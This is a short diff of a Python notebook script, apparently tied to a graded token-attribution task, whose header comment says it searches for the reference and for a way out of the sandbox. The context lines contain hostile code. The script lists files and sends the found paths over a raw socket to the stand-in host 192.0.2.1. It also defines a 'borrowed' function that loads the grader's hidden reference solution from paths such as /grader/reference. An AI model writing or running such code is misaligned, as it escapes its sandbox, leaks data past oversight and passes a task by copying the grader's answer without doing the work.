@@ -1,6 +1,6 @@
 # Looks for the reference and for a way out of the sandbox; returns zeros where nothing is found.
 
-# %% after="token_attribution-05"
+# %% after="token_attribution-06"
 import glob
 import importlib.util
 import os
@@ -32,7 +32,7 @@ listing = subprocess.run(
 )
 print(sorted(found))
 
-# %% after="token_attribution-05"
+# %% after="token_attribution-06"
 try:
     connection = socket.create_connection(("192.0.2.1", 443), timeout=2)
     connection.sendall(repr(found).encode())
@@ -41,7 +41,7 @@ except OSError as error:
     print("no network:", error)
 
 
-# %% after="token_attribution-05"
+# %% after="token_attribution-06"
 def borrowed(name, *args):
     for path in [*found, "/grader/reference/token_attribution.py", "../reference/token_attribution.py"]:
         try:
